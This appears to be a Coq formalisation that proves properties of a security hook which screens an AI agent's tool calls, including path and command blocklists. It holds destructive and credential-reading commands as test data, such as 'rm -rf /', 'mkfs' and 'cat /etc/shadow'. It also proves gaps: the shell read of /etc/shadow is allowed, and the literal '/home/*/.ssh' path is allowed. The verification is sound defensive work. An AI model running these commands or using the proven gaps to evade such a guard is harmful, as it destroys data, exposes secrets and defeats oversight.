Lemma cat_shadow_not_dangerous : dangerous "cat /etc/shadow" = false.
Proof. vm_compute. reflexivity. Qed.

Lemma etc_shadow_sensitive : sensitive (VStr "/etc/shadow") = true.
Proof. vm_compute. reflexivity. Qed.

(** C9.  The Bash invocation with command [cat /etc/shadow] is taken by no
    exact command rule and by no command pattern, and is allowed; the
    file-read invocation of the same path [/etc/shadow] is denied. *)
Theorem bash_not_path_checked (o : set_order) :
  existsb (exact_command_hit "cat /etc/shadow") DANGEROUS_COMMANDS = false
  /\ existsb (fun pattern => Re.search pattern "cat /etc/shadow" true) DANGEROUS_PATTERNS
     = false
  /\ validate_tool_call o (invocation "Bash" [("command", VStr "cat /etc/shadow")])
     = Ok (true, "Operation allowed")
  /\ exists reason,
       validate_tool_call o (invocation "Read" [("file_path", VStr "/etc/shadow")])
       = Ok (false, reason).
Proof.
  split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|]. split.
  - unfold validate_tool_call, invocation.
    cbn [get bind lookup String.eqb Ascii.eqb Bool.eqb eq_str].
    destruct (check_dangerous_command_flag o "cat /etc/shadow") as (reason & -> & _ & Hn).
    rewrite cat_shadow_not_dangerous in *. rewrite (Hn eq_refl). reflexivity.
  - unfold validate_tool_call, invocation.
    cbn [get bind lookup String.eqb Ascii.eqb Bool.eqb eq_str in_strs existsb orb].
    destruct (check_subject_spec o "Blocked access to sensitive file" (VStr "/etc/shadow"))
      as [Hdeny _].
    destruct Hdeny as (reason & ->).
    + rewrite etc_shadow_sensitive. reflexivity.
    + now exists reason.
Qed.

(** ** The process edge *)

Lemma run_hook_decode_error (o : set_order) (msg : string) :
  run_hook o (LoadFailed JSONDecodeError msg)
  = {| stderr := ["Error parsing hook input: " ++ msg]; status := 1 |}.
Proof. reflexivity. Qed.

Lemma run_hook_load_fault (o : set_order) (cls : exn_class) (msg : string) :
  cls <> JSONDecodeError ->
  run_hook o (LoadFailed cls msg)
  = {| stderr := ["Security hook error: " ++ msg]; status := 0 |}.
Proof. intros H. destruct cls; [now elim H | reflexivity | reflexivity]. Qed.

Lemma run_hook_fault (o : set_order) (tool_data : value) (cls : exn_class) (msg : string) :
  validate_tool_call o tool_data = Raise (Exc cls msg) ->
  run_hook o (Loaded tool_data)
  = {| stderr := ["Security hook error: " ++ msg]; status := 0 |}.
Proof.
  intros H. destruct (validate_raise _ _ _ H) as [msg' [= -> <-]].
  unfold run_hook, run, main, try_except, io_bind, lift, json_loads.
  rewrite H. reflexivity.
Qed.

Lemma run_hook_verdict (o : set_order) (tool_data : value) (allowed : bool) (reason : string) :
  validate_tool_call o tool_data = Ok (allowed, reason) ->
  run_hook o (Loaded tool_data)
  = if allowed
    then {| stderr := []; status := 0 |}
    else {| stderr := ["SECURITY BLOCK: " ++ reason]; status := 1 |}.
Proof.
  intros H.
  unfold run_hook, run, main, try_except, io_bind, lift, json_loads.
  rewrite H. destruct allowed; reflexivity.
Qed.




(** ** Path-checked tools *)

Lemma sensitive_of_exact (rule : string) (path : value) :
  In rule SENSITIVE_PATHS ->
  exact_path_hit (Str.lower (str path)) rule = true ->
  sensitive path = true.
Proof.
  intros Hin Hhit. unfold sensitive. apply orb_true_iff. left.
  apply existsb_exists. now exists rule.
Qed.

Lemma sensitive_of_pattern (pattern : string) (path : value) :
  In pattern SENSITIVE_PATH_PATTERNS ->
  Re.search pattern (Str.lower (str path)) true = true ->
  sensitive path = true.
Proof.
  intros Hin Hhit. unfold sensitive. apply orb_true_iff. right.
  apply existsb_exists. now exists pattern.
Qed.

Lemma search_suffix (pattern : string) (r : Re.regex) (a b : string) :
  Re.compile pattern = Some r ->
  Re.matches_at true r b = true ->
  Re.search pattern (a ++ b) true = true.
Proof.
  intros Hc Hm. unfold Re.search. rewrite Hc. now apply search_from_append.
Qed.

Lemma nonempty_append_r (a b : string) : Str.nonempty b = true -> Str.nonempty (a ++ b) = true.
Proof. destruct a; [trivial | reflexivity]. Qed.

Lemma nonempty_lower (s : string) : Str.nonempty (Str.lower s) = Str.nonempty s.
Proof. destruct s; reflexivity. Qed.

(** A path-checked tool denies a truthy subject that is sensitive, from
    whichever of its parameters the subject comes. *)
Lemma path_tool_denies
  (o : set_order) (d : list (string * value)) (tool field : string)
  (ps : list (string * value)) (v : value) :
  In (tool, field) path_subjects ->
  calls d tool ps ->
  lookup ps field = Some v ->
  truthy v = true ->
  sensitive v = true ->
  exists reason, validate_tool_call o (VDict d) = Ok (false, reason).
Proof.
  intros Hin Hc Hv Ht Hs.
  destruct (calls_get _ _ _ Hc) as [Htool Hparams].
  assert (Hdeny : forall blocked, exists reason,
             check_subject o blocked v = Some (false, reason)).
  { intros blocked. apply (check_subject_spec o blocked v). now rewrite Ht, Hs. }
  unfold validate_tool_call. rewrite Htool, Hparams.
  simpl in Hin.
  repeat (destruct Hin as [[= <- <-] | Hin]); try contradiction;
    cbn [bind eq_str in_strs existsb orb String.eqb Ascii.eqb Bool.eqb get];
    rewrite ?Hv; cbn [bind for_return].
  1-4, 7-8: destruct (Hdeny "Blocked access to sensitive file") as [r1 E1];
            destruct (Hdeny "Blocked grep access to sensitive path") as [r2 E2];
            destruct (Hdeny "Blocked directory listing of sensitive path") as [r3 E3];
            rewrite ?E1, ?E2, ?E3; eauto.
  - destruct (Hdeny "Blocked glob access to sensitive path") as [r E]. rewrite E. eauto.
  - destruct (Hdeny "Blocked glob access to sensitive path") as [r E].
    set (pattern := match lookup ps "pattern" with Some x => x | None => VStr "" end).
    destruct (check_subject_spec o "Blocked glob access to sensitive path" pattern)
      as [Hsome Hnone].
    destruct (truthy pattern && sensitive pattern).
    + destruct (Hsome eq_refl) as [r' ->]. eauto.
    + rewrite (Hnone eq_refl), E. eauto.
Qed.

(** *** Key material *)

Lemma key_suffix_search (ext : string) (a : string) :
  In ext [".pem"; ".key"; ".p12"; ".pfx"] ->
  Re.search (".*\" ++ ext ++ "$") (a ++ ext) true = true.
Proof.
  intros Hin. simpl in Hin.
  repeat (destruct Hin as [<- | Hin]); try contradiction;
    (eapply search_suffix; [vm_compute; reflexivity | vm_compute; reflexivity]).
Qed.

(** C3.  A path-checked invocation (Read, Write, Edit, MultiEdit on
    [file_path]; Glob on [pattern] or [path]; Grep and LS on [path]) whose
    subject is a string ending in [.pem], [.key], [.p12] or [.pfx], in any
    letter case and under any directory, is denied. *)
Theorem key_file_denied
  (o : set_order) (d : list (string * value)) (tool field : string)
  (ps : list (string * value)) (dir e ext : string) :
  In (tool, field) path_subjects ->
  calls d tool ps ->
  lookup ps field = Some (VStr (dir ++ e)) ->
  In ext [".pem"; ".key"; ".p12"; ".pfx"] ->
  Str.lower e = ext ->
  exists reason, validate_tool_call o (VDict d) = Ok (false, reason).
Proof.
  intros Hin Hc Hv Hext He.
  assert (Hne : Str.nonempty e = true).
  { rewrite <- nonempty_lower, He. simpl in Hext.
    repeat (destruct Hext as [<- | Hext]); try contradiction; reflexivity. }
  apply (path_tool_denies o d tool field ps (VStr (dir ++ e))); trivial.
  - now apply nonempty_append_r.
  - apply (sensitive_of_pattern (".*\" ++ ext ++ "$")).
    + simpl in Hext.
      repeat (destruct Hext as [<- | Hext]); try contradiction; simpl; tauto.
    + cbn [str]. rewrite lower_append, He. now apply key_suffix_search.
Qed.

Lemma key_file_denied_witness :
  exists reason,
    validate_tool_call reversed_order
      (invocation "Glob" [("pattern", VStr "**/*.ts"); ("path", VStr "/srv/app/Deploy.PEM")])
    = Ok (false, reason).
Proof.
  apply (key_file_denied reversed_order _ "Glob" "path"
           [("pattern", VStr "**/*.ts"); ("path", VStr "/srv/app/Deploy.PEM")]
           "/srv/app/Deploy" ".PEM" ".pem").
  - simpl; tauto.
  - split; [reflexivity | left; reflexivity].
  - reflexivity.
  - simpl; tauto.
  - reflexivity.
Defined.

(** *** Words that hint at a credential *)

Lemma word_search (word rest a : string) :
  In word ["password"; "secret"; "token"] ->
  Re.search (".*" ++ word ++ ".*") (a ++ word ++ rest) true = true.
Proof.
  intros Hin. simpl in Hin.
  repeat (destruct Hin as [<- | Hin]); try contradiction;
    (eapply search_suffix; [vm_compute; reflexivity|];
     apply matches_at_in with (u := rest);
     repeat (eapply ends_seq;
             [first [apply ends_star_zero | apply ends_lit; reflexivity]|]);
     apply ends_empty).
Qed.

(** C4.  A path-checked invocation whose subject is a string that
    contains "password", "secret" or "token" anywhere, in any letter case,
    is denied. *)
Theorem credential_word_denied
  (o : set_order) (d : list (string * value)) (tool field : string)
  (ps : list (string * value)) (a w b word : string) :
  In (tool, field) path_subjects ->
  calls d tool ps ->
  lookup ps field = Some (VStr (a ++ w ++ b)) ->
  In word ["password"; "secret"; "token"] ->
  Str.lower w = word ->
  exists reason, validate_tool_call o (VDict d) = Ok (false, reason).
Proof.
  intros Hin Hc Hv Hword Hw.
  assert (Hne : Str.nonempty w = true).
  { rewrite <- nonempty_lower, Hw. simpl in Hword.
    repeat (destruct Hword as [<- | Hword]); try contradiction; reflexivity. }
  apply (path_tool_denies o d tool field ps (VStr (a ++ w ++ b))); trivial.
  - apply nonempty_append_r. destruct w; [discriminate | reflexivity].
  - apply (sensitive_of_pattern (".*" ++ word ++ ".*")).
    + simpl in Hword.
      repeat (destruct Hword as [<- | Hword]); try contradiction; simpl; tauto.
    + cbn [str]. rewrite !lower_append, Hw. now apply word_search.
Qed.

Lemma credential_word_denied_witness :
  exists reason,
    validate_tool_call listed_order
      (invocation "Read" [("file_path", VStr "/tmp/password_hint.txt")])
    = Ok (false, reason).
Proof.
  apply (credential_word_denied listed_order _ "Read" "file_path"
           [("file_path", VStr "/tmp/password_hint.txt")]
           "/tmp/" "password" "_hint.txt" "password").
  - simpl; tauto.
  - split; [reflexivity | left; reflexivity].
  - reflexivity.
  - simpl; tauto.
  - reflexivity.
Defined.

(** *** Exact path rules *)

Lemma stripped_rules_nonempty :
  forallb (fun rule => Str.nonempty (Str.replace rule "*" "")) SENSITIVE_PATHS = true.
Proof. vm_compute. reflexivity. Qed.

(** C10, as the code has it.  A path-checked invocation whose subject is a
    string that contains anywhere, in any letter case, an exact path rule
    with its [*] removed is denied.  For every rule but [/home/*/.ssh]
    that is the rule string itself; for [/home/*/.ssh] it is
    [/home//.ssh]. *)
Theorem exact_path_rule_denied
  (o : set_order) (d : list (string * value)) (tool field : string)
  (ps : list (string * value)) (a w b rule : string) :
  In (tool, field) path_subjects ->
  calls d tool ps ->
  lookup ps field = Some (VStr (a ++ w ++ b)) ->
  In rule SENSITIVE_PATHS ->
  Str.lower w = Str.replace rule "*" "" ->
  exists reason, validate_tool_call o (VDict d) = Ok (false, reason).
Proof.
  intros Hin Hc Hv Hrule Hw.
  assert (Hne : Str.nonempty w = true).
  { rewrite <- nonempty_lower, Hw.
    exact (proj1 (forallb_forall _ _) stripped_rules_nonempty rule Hrule). }
  apply (path_tool_denies o d tool field ps (VStr (a ++ w ++ b))); trivial.
  - apply nonempty_append_r. destruct w; [discriminate | reflexivity].
  - apply (sensitive_of_exact rule); [exact Hrule|].
    unfold exact_path_hit. cbn [str]. rewrite !lower_append, Hw.
    now rewrite contains_append.
Qed.

Lemma exact_path_rule_denied_witness :
  (exists reason,
      validate_tool_call listed_order
        (invocation "Read" [("file_path", VStr "/home/user/dev/notes.txt")])
      = Ok (false, reason))
  /\ (exists reason,
         validate_tool_call reversed_order
           (invocation "LS" [("path", VStr "/srv/chroot/ROOTfs")])
         = Ok (false, reason)).
Proof.
  split.
  - apply (exact_path_rule_denied listed_order _ "Read" "file_path"
             [("file_path", VStr "/home/user/dev/notes.txt")]
             "/home/user" "/dev" "/notes.txt" "/dev").
    + simpl; tauto.
    + split; [reflexivity | left; reflexivity].
    + reflexivity.
    + simpl; tauto.
    + reflexivity.
  - apply (exact_path_rule_denied reversed_order _ "LS" "path"
             [("path", VStr "/srv/chroot/ROOTfs")]
             "/srv/chroot" "/ROOT" "fs" "/root").
    + simpl; tauto.
    + split; [reflexivity | left; reflexivity].
    + reflexivity.
    + simpl; tauto.
    + reflexivity.
Defined.

Lemma wildcard_rule_text_not_sensitive : sensitive (VStr "/home/*/.ssh") = false.
Proof. vm_compute. reflexivity. Qed.

(** C10 as worded fails at the rule [/home/*/.ssh]: the path that is this
    very rule string contains it, and both reading it and globbing for it
    are allowed, in every iteration order. *)
Lemma wildcard_rule_text_allowed :
  In "/home/*/.ssh" SENSITIVE_PATHS
  /\ Str.contains "/home/*/.ssh" (Str.lower "/home/*/.ssh") = true
  /\ (forall o : set_order,
         validate_tool_call o (invocation "Read" [("file_path", VStr "/home/*/.ssh")])
         = Ok (true, "Operation allowed"))
  /\ (forall o : set_order,
         validate_tool_call o (invocation "Glob" [("pattern", VStr "/home/*/.ssh")])
         = Ok (true, "Operation allowed")).
Proof.
  split; [simpl; tauto|]. split; [reflexivity|]. split; intros o.
  - unfold validate_tool_call, invocation.
    cbn [get bind lookup String.eqb Ascii.eqb Bool.eqb eq_str in_strs existsb orb].
    destruct (check_subject_spec o "Blocked access to sensitive file" (VStr "/home/*/.ssh"))
      as [_ Hnone].
    rewrite Hnone; [reflexivity|].
    rewrite wildcard_rule_text_not_sensitive. reflexivity.
  - unfold validate_tool_call, invocation.
    cbn [get bind lookup String.eqb Ascii.eqb Bool.eqb eq_str in_strs existsb orb
         for_return].
    destruct (check_subject_spec o "Blocked glob access to sensitive path"
                (VStr "/home/*/.ssh")) as [_ Hnone].
    rewrite Hnone; [reflexivity|].
    rewrite wildcard_rule_text_not_sensitive. reflexivity.
Qed.

(** *** Subjects that are not strings *)

Lemma sensitive_str (v : value) : sensitive v = sensitive (VStr (str v)).
Proof. reflexivity. Qed.

(** A path-checked tool with one subject allows exactly when the subject
    is falsy or not sensitive. *)
Lemma single_subject_allows
  (o : set_order) (d : list (string * value)) (tool field : string)
  (ps : list (string * value)) (v : value) :
  In (tool, field) path_subjects ->
  tool <> "Glob" ->
  calls d tool ps ->
  lookup ps field = Some v ->
  truthy v && sensitive v = false ->
  validate_tool_call o (VDict d) = Ok (true, "Operation allowed").
Proof.
  intros Hin Hglob Hc Hv Hclean.
  destruct (calls_get _ _ _ Hc) as [Htool Hparams].
  assert (Hskip : forall blocked, check_subject o blocked v = None).
  { intros blocked. now apply (check_subject_spec o blocked v). }
  unfold validate_tool_call. rewrite Htool, Hparams.
  simpl in Hin.
  repeat (destruct Hin as [[= <- <-] | Hin]); try contradiction;
    try (now elim Hglob);
    cbn [bind eq_str in_strs existsb orb String.eqb Ascii.eqb Bool.eqb get];
    rewrite Hv, Hskip; reflexivity.
Qed.

(** A path-checked tool called with a parameter mapping raises nothing. *)
Lemma path_tool_returns
  (o : set_order) (d : list (string * value)) (tool field : string)
  (ps : list (string * value)) :
  In (tool, field) path_subjects ->
  calls d tool ps ->
  exists v, validate_tool_call o (VDict d) = Ok v.
Proof.
  intros Hin Hc.
  destruct (calls_get _ _ _ Hc) as [Htool Hparams].
  unfold validate_tool_call. rewrite Htool, Hparams.
  simpl in Hin.
  repeat (destruct Hin as [[= <- <-] | Hin]); try contradiction;
    cbn [bind eq_str in_strs existsb orb String.eqb Ascii.eqb Bool.eqb get];
    match goal with
    | |- context [match ?x with Some _ => _ | None => _ end] => destruct x; eauto
    end.
Qed.

(** C6, as the code has it.  A path-checked invocation whose subject
    parameter is present and is not a string raises nothing.  A falsy
    value ([None], [False], [0], [0.0], an empty list or mapping) is
    skipped like an absent one.  A truthy value is checked through its
    text [str(value)]: the invocation is denied when that text is
    sensitive, and a tool with this one subject allows it otherwise. *)
Theorem malformed_path_checked
  (o : set_order) (d : list (string * value)) (tool field : string)
  (ps : list (string * value)) (v : value) :
  In (tool, field) path_subjects ->
  calls d tool ps ->
  lookup ps field = Some v ->
  is_str v = false ->
  (exists verdict, validate_tool_call o (VDict d) = Ok verdict)
  /\ (truthy v = true -> sensitive (VStr (str v)) = true ->
      exists reason, validate_tool_call o (VDict d) = Ok (false, reason))
  /\ (tool <> "Glob" -> truthy v && sensitive (VStr (str v)) = false ->
      validate_tool_call o (VDict d) = Ok (true, "Operation allowed")).
Proof.
  intros Hin Hc Hv _. rewrite <- sensitive_str. split; [|split].
  - now apply (path_tool_returns o d tool field ps).
  - intros Ht Hs. now apply (path_tool_denies o d tool field ps v).
  - intros Hglob Hclean. now apply (single_subject_allows o d tool field ps v).
Qed.

Lemma malformed_path_checked_witness :
  (exists reason,
      validate_tool_call listed_order
        (invocation "Grep" [("pattern", VStr "TODO"); ("path", VList [VStr "/var/log/auth.log"])])
      = Ok (false, reason))
  /\ validate_tool_call listed_order
       (invocation "LS" [("path", VInt 0)])
     = Ok (true, "Operation allowed").
Proof.
  split.
  - destruct (malformed_path_checked listed_order
                [("tool", VStr "Grep");
                 ("parameters",
                  VDict [("pattern", VStr "TODO"); ("path", VList [VStr "/var/log/auth.log"])])]
                "Grep" "path"
                [("pattern", VStr "TODO"); ("path", VList [VStr "/var/log/auth.log"])]
                (VList [VStr "/var/log/auth.log"])) as (_ & Hdeny & _).
    + simpl; tauto.
    + split; [reflexivity | left; reflexivity].
    + reflexivity.
    + reflexivity.
    + apply Hdeny; vm_compute; reflexivity.
  - destruct (malformed_path_checked listed_order
                [("tool", VStr "LS"); ("parameters", VDict [("path", VInt 0)])]
                "LS" "path" [("path", VInt 0)] (VInt 0)) as (_ & _ & Hallow).
    + simpl; tauto.
    + split; [reflexivity | left; reflexivity].
    + reflexivity.
    + reflexivity.
    + apply Hallow; [discriminate | reflexivity].
Defined.

(** C6 as worded fails: a file-read whose [file_path] is the list
    [["/etc/passwd"]] is not a string, and is denied. *)
Lemma list_subject_denied :
  is_str (VList [VStr "/etc/passwd"]) = false
  /\ str (VList [VStr "/etc/passwd"]) = "['/etc/passwd']"
  /\ validate_tool_call listed_order
       (invocation "Read" [("file_path", VList [VStr "/etc/passwd"])])
     = Ok (false, "Blocked access to sensitive file: Access to sensitive path: /etc/passwd")
  /\ forall o : set_order,
       exists reason,
         validate_tool_call o (invocation "Read" [("file_path", VList [VStr "/etc/passwd"])])
         = Ok (false, reason).
Proof.
  split; [reflexivity|]. split; [reflexivity|]. split; [vm_compute; reflexivity|].
  intros o.
  apply (path_tool_denies o _ "Read" "file_path"
           [("file_path", VList [VStr "/etc/passwd"])] (VList [VStr "/etc/passwd"])).
  - simpl; tauto.
  - split; [reflexivity | left; reflexivity].
  - reflexivity.
  - reflexivity.
  - vm_compute. reflexivity.
Qed.

(** ** The root wipe *)

Lemma root_wipe_hit (a w b : string) :
  Str.lower w = "rm -rf /" -> exact_command_hit (a ++ w ++ b) "rm -rf /" = true.
Proof.
  intros Hw. unfold exact_command_hit.
  apply (contains_strip "r" "/" "m -rf "); [reflexivity | reflexivity |].
  rewrite !lower_append, Hw. apply contains_append.
Qed.

(** C2, as the code has it.  A Bash invocation whose command string
    contains [rm -rf /] in any letter case, with anything after it, is
    denied, and the reason names an exact command rule that occurs in the
    folded command: the first such rule in the iteration order of the rule
    set.  That rule is [rm -rf /] when no other exact rule occurs in the
    command. *)
Theorem root_wipe_denied
  (o : set_order) (d ps : list (string * value)) (a w b : string) :
  calls d "Bash" ps ->
  lookup ps "command" = Some (VStr (a ++ w ++ b)) ->
  Str.lower w = "rm -rf /" ->
  exists rule,
    In rule DANGEROUS_COMMANDS
    /\ exact_command_hit (a ++ w ++ b) rule = true
    /\ validate_tool_call o (VDict d)
       = Ok (false,
             "Blocked dangerous Bash command: " ++ ("Dangerous command detected: " ++ rule))
    /\ (exists before after,
           commands_order o = (before ++ rule :: after)%list
           /\ existsb (exact_command_hit (a ++ w ++ b)) before = false)
    /\ ((forall other,
            In other DANGEROUS_COMMANDS ->
            exact_command_hit (a ++ w ++ b) other = true ->
            other = "rm -rf /") ->
        rule = "rm -rf /").
Proof.
  intros Hc Hcmd Hw.
  destruct (calls_get _ _ _ Hc) as [Htool Hparams].
  pose proof (root_wipe_hit a w b Hw) as Hhit.
  unfold validate_tool_call. rewrite Htool, Hparams.
  cbn [bind eq_str String.eqb Ascii.eqb Bool.eqb get]. rewrite Hcmd.
  unfold check_dangerous_command.
  cbn [bind lower_strip].
  change (fun dangerous_cmd : string =>
            if Str.contains dangerous_cmd (Str.strip (Str.lower (a ++ w ++ b)))
            then Some (true, Some ("Dangerous command detected: " ++ dangerous_cmd))
            else None)
    with (fun x => if exact_command_hit (a ++ w ++ b) x
                   then Some (true, Some ("Dangerous command detected: " ++ x))
                   else @None (bool * option string)).
  destruct (for_return (commands_order o) _) as [returned|] eqn:E.
  - apply for_return_if_first in E as (before & rule & after & Horder & Hbefore & Hrule & ->).
    assert (Hin : In rule DANGEROUS_COMMANDS).
    { apply (Permutation_in _ (commands_order_perm o)).
      rewrite Horder. apply in_or_app. right. now left. }
    exists rule. cbn [bind format_opt].
    split; [exact Hin|]. split; [exact Hrule|]. split; [reflexivity|].
    split; [now exists before, after | auto].
  - exfalso.
    apply for_return_if_none in E. rewrite existsb_commands in E.
    assert (existsb (exact_command_hit (a ++ w ++ b)) DANGEROUS_COMMANDS = true) as E'.
    { apply existsb_exists. exists "rm -rf /". split; [simpl; tauto | exact Hhit]. }
    congruence.
Qed.

Lemma root_wipe_denied_witness :
  exists rule,
    In rule DANGEROUS_COMMANDS
    /\ exact_command_hit "cd /tmp && RM -RF /var/lib/app" rule = true
    /\ validate_tool_call reversed_order
         (invocation "Bash" [("command", VStr "cd /tmp && RM -RF /var/lib/app")])
       = Ok (false,
             "Blocked dangerous Bash command: " ++ ("Dangerous command detected: " ++ rule))
    /\ (exists before after,
           commands_order reversed_order = (before ++ rule :: after)%list
           /\ existsb (exact_command_hit "cd /tmp && RM -RF /var/lib/app") before = false)
    /\ ((forall other,
            In other DANGEROUS_COMMANDS ->
            exact_command_hit "cd /tmp && RM -RF /var/lib/app" other = true ->
            other = "rm -rf /") ->
        rule = "rm -rf /").
Proof.
  apply (root_wipe_denied reversed_order
           [("tool", VStr "Bash");
            ("parameters", VDict [("command", VStr "cd /tmp && RM -RF /var/lib/app")])]
           [("command", VStr "cd /tmp && RM -RF /var/lib/app")]
           "cd /tmp && " "RM -RF /" "var/lib/app").
  - split; [reflexivity | left; reflexivity].
  - reflexivity.
  - reflexivity.
Defined.

(** C2 as worded fails: this command contains [rm -rf /], yet in an
    iteration order that visits [mkfs] before [rm -rf /] the reason names
    the [mkfs] rule. *)
Lemma root_wipe_reason_names_other_rule :
  Str.contains "rm -rf /" "mkfs.ext4 /dev/sdb1 && rm -rf /" = true
  /\ validate_tool_call reversed_order
       (invocation "Bash" [("command", VStr "mkfs.ext4 /dev/sdb1 && rm -rf /")])
     = Ok (false, "Blocked dangerous Bash command: Dangerous command detected: mkfs").
Proof. split; vm_compute; reflexivity. Qed.

(** ** Determinism *)

Lemma check_subject_order (o1 o2 : set_order) (blocked : string) (v : value) :
  (exists r1 r2,
      check_subject o1 blocked v = Some (false, r1)
      /\ check_subject o2 blocked v = Some (false, r2))
  \/ (check_subject o1 blocked v = None /\ check_subject o2 blocked v = None).
Proof.
  destruct (check_subject_spec o1 blocked v) as [S1 N1].
  destruct (check_subject_spec o2 blocked v) as [S2 N2].
  destruct (truthy v && sensitive v).
  - left. destruct (S1 eq_refl) as [r1 E1]. destruct (S2 eq_refl) as [r2 E2]. eauto.
  - right. auto.
Qed.

(** The allowed flag, and the exception when there is one, are the same
    in every iteration order. *)
Lemma allowed_order_free (o1 o2 : set_order) (tool_data : value) :
  allowed_of (validate_tool_call o1 tool_data)
  = allowed_of (validate_tool_call o2 tool_data).
Proof.
  unfold validate_tool_call.
  destruct tool_data as [| | | | |items|d]; try reflexivity.
  cbn [get bind].
  set (tool_name := match lookup d "tool" with Some v => v | None => VNone end).
  set (parameters := match lookup d "parameters" with Some v => v | None => VDict [] end).
  destruct (eq_str tool_name "Bash").
  { destruct parameters as [| | | | |items|ps]; try reflexivity.
    cbn [get bind].
    destruct (match lookup ps "command" with Some v => v | None => VStr "" end)
      as [| | | | c | |]; try reflexivity.
    destruct (check_dangerous_command_flag o1 c) as (r1 & -> & _).
    destruct (check_dangerous_command_flag o2 c) as (r2 & -> & _).
    cbn [bind]. destruct (dangerous c); reflexivity. }
  destruct (in_strs tool_name _).
  { destruct parameters as [| | | | |items|ps]; try reflexivity.
    cbn [get bind].
    match goal with
    | |- context [check_subject o1 ?blocked ?v] =>
        destruct (check_subject_order o1 o2 blocked v) as [(r1 & r2 & -> & ->) | [-> ->]]
    end; reflexivity. }
  destruct (eq_str tool_name "Glob").
  { destruct parameters as [| | | | |items|ps]; try reflexivity.
    cbn [get bind for_return].
    repeat match goal with
    | |- context [check_subject o1 ?blocked ?v] =>
        destruct (check_subject_order o1 o2 blocked v) as [(r1 & r2 & -> & ->) | [-> ->]]
    end; reflexivity. }
  destruct (eq_str tool_name "Grep").
  { destruct parameters as [| | | | |items|ps]; try reflexivity.
    cbn [get bind].
    match goal with
    | |- context [check_subject o1 ?blocked ?v] =>
        destruct (check_subject_order o1 o2 blocked v) as [(r1 & r2 & -> & ->) | [-> ->]]
    end; reflexivity. }
  destruct (eq_str tool_name "LS").
  { destruct parameters as [| | | | |items|ps]; try reflexivity.
    cbn [get bind].
    match goal with
    | |- context [check_subject o1 ?blocked ?v] =>
        destruct (check_subject_order o1 o2 blocked v) as [(r1 & r2 & -> & ->) | [-> ->]]
    end; reflexivity. }
  reflexivity.
Qed.

(** The evaluator reads an iteration order through its two lists only. *)
Lemma validate_same_lists (o1 o2 : set_order) (tool_data : value) :
  commands_order o1 = commands_order o2 ->
  paths_order o1 = paths_order o2 ->
  validate_tool_call o1 tool_data = validate_tool_call o2 tool_data.
Proof.
  intros Hc Hp.
  unfold validate_tool_call, check_subject, check_dangerous_command, check_sensitive_path.
  rewrite Hc, Hp. reflexivity.
Qed.

(** C8, as the code has it.  For every invocation record, any two
    evaluations agree on the allowed flag (and on the exception, when the
    record makes the evaluator raise), whatever order the rule sets are
    iterated in.  The reason string is a function of the record, the
    catalog and that iteration order: two evaluations under the same order
    give the same verdict, reason included. *)
Theorem evaluation_deterministic (o1 o2 : set_order) (tool_data : value) :
  allowed_of (validate_tool_call o1 tool_data)
  = allowed_of (validate_tool_call o2 tool_data)
  /\ (commands_order o1 = commands_order o2 ->
      paths_order o1 = paths_order o2 ->
      validate_tool_call o1 tool_data = validate_tool_call o2 tool_data).
Proof.
  split; [apply allowed_order_free | apply validate_same_lists].
Qed.

Lemma evaluation_deterministic_witness :
  validate_tool_call listed_order
    (invocation "Bash" [("command", VStr "mkfs.ext4 /dev/sdb1 && rm -rf /")])
  = validate_tool_call listed_order
      (invocation "Bash" [("command", VStr "mkfs.ext4 /dev/sdb1 && rm -rf /")]).
Proof.
  apply (proj2 (evaluation_deterministic listed_order listed_order _)); reflexivity.
Defined.

(** C8 as worded fails on the reason string: the same record gets two
    different reasons in two iteration orders of the command rule set. *)
Lemma reason_depends_on_order :
  validate_tool_call listed_order
    (invocation "Bash" [("command", VStr "mkfs.ext4 /dev/sdb1 && rm -rf /")])
  = Ok (false, "Blocked dangerous Bash command: Dangerous command detected: rm -rf /")
  /\ validate_tool_call reversed_order
       (invocation "Bash" [("command", VStr "mkfs.ext4 /dev/sdb1 && rm -rf /")])
     = Ok (false, "Blocked dangerous Bash command: Dangerous command detected: mkfs").
Proof. split; vm_compute; reflexivity. Qed.

(** * Further properties of the evaluator *)

(** ** Case folding *)

Lemma char_lower_idem (x : ascii) : Char.lower (Char.lower x) = Char.lower x.
Proof. destruct x as [[] [] [] [] [] [] [] []]; vm_compute; reflexivity. Qed.

Lemma char_upper_lower (x : ascii) : Char.upper (Char.lower x) = Char.upper x.
Proof. destruct x as [[] [] [] [] [] [] [] []]; vm_compute; reflexivity. Qed.

Lemma char_isspace_lower (x : ascii) : Char.isspace (Char.lower x) = Char.isspace x.
Proof. destruct x as [[] [] [] [] [] [] [] []]; vm_compute; reflexivity. Qed.

Lemma char_line_feed_lower (x : ascii) :
  Ascii.eqb (Char.lower x) Re.line_feed = Ascii.eqb x Re.line_feed.
Proof. destruct x as [[] [] [] [] [] [] [] []]; vm_compute; reflexivity. Qed.

Lemma lower_idem (s : string) : Str.lower (Str.lower s) = Str.lower s.
Proof.
  induction s as [|x s IH]; simpl; [reflexivity|].
  now rewrite char_lower_idem, IH.
Qed.

Lemma length_lower (s : string) : length (Str.lower s) = length s.
Proof. induction s as [|x s IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma append_inj (a a' b b' : string) :
  length a = length a' -> a ++ b = a' ++ b' -> a = a' /\ b = b'.
Proof.
  revert a'. induction a as [|x a IH]; intros [|x' a'] Hlen H; simpl in *;
    try discriminate.
  - auto.
  - injection H as -> H. injection Hlen as Hlen.
    destruct (IH a' Hlen H) as [-> ->]. auto.
Qed.

(** Only a text that case folding leaves alone occurs in a folded text. *)
Lemma contains_lower_fixed (sub s : string) :
  Str.contains sub (Str.lower s) = true -> Str.lower sub = sub.
Proof.
  intros H. apply contains_split in H as (a & b & E).
  pose proof (f_equal Str.lower E) as E'.
  rewrite lower_idem, E, !lower_append in E'.
  apply eq_sym, append_inj in E' as [_ E']; [|apply length_lower].
  apply append_inj in E' as [E' _]; [exact E' | apply length_lower].
Qed.

Lemma lstrip_suffix (s : string) : exists hd, s = hd ++ Str.lstrip s.
Proof.
  induction s as [|x s [hd IH]]; simpl.
  - now exists "".
  - destruct (Char.isspace x).
    + exists (String x hd). simpl. now rewrite <- IH.
    + now exists "".
Qed.

Lemma rstrip_prefix (s : string) : exists tl, s = Str.rstrip s ++ tl.
Proof.
  induction s as [|x s [tl IH]]; simpl.
  - now exists "".
  - destruct (Str.rstrip s) as [|y r] eqn:E.
    + destruct (Char.isspace x).
      * now exists (String x s).
      * exists s. reflexivity.
    + exists tl. simpl. simpl in IH. now rewrite <- IH.
Qed.

